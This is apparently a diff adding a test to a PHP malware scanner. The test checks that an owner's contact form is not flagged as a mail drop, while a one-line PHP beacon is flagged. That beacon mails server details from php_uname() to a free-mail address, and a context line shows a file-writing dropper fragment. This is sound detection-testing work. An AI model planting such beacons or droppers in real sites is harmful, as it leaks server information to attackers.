@@ -567,3 +567,13 @@ def test_a_write_to_a_php_handle_with_one_argument_is_read_without_error() -> No
     broken droppers): the rule reads no content from it, and the scan goes on."""
     res = analyze_bytes(b"<?php $h = fopen('x.php', 'w'); fwrite($h); echo 1;")
     assert "php.remote-php-write" not in rule_ids(res)
+
+
+def test_a_contact_form_to_the_owners_free_mail_box_is_no_drop() -> None:
+    """The visitor is the sender (From: the posted address): the owner's Gmail is where a
+    one-person site reads its contact form, not an attacker's drop."""
+    result = analyze_file(SAMPLES / "suspicious" / "contact-form-gmail-owner.php")
+    assert "mailer.freemail-drop" not in rule_ids(result)
+    assert result.verdict is ScanVerdict.SUSPICIOUS
+    beacon = b"<?php mail('x.example@gmail.com', 'up', php_uname(), 'From: bot@example.invalid');"
+    assert "mailer.freemail-drop" in rule_ids(analyze_bytes(beacon))
